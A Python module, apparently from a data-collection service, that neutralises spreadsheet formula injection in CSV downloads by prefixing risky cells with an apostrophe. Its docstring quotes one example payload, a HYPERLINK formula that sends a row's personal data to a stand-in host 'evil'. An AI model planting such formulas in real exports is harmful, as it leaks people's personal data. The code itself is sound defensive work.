"""CSV that is safe to open in a spreadsheet: no cell written by a caller can become a formula.

A village typed as `=HYPERLINK("http://evil/?"&A2,"Maseru")` on a USSD screen, or a name sent to the API, would be a
live formula in the officer's spreadsheet, able to send the row's personal data elsewhere when clicked. Every CSV
download goes through `csv_writer`, which prefixes such text with an apostrophe, as OWASP advises: spreadsheets show
the text as it was typed, and never evaluate it. Numbers are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (tab and carriage return
# because some of them strip leading whitespace before looking).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer`'s `writerow`/`writerows`, with every cell through `safe_cell`."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options) -> SafeCsvWriter:
    """The only CSV writer for downloads: `csv.writer(out, **options)` that cannot write a formula."""
    return SafeCsvWriter(out, **options)
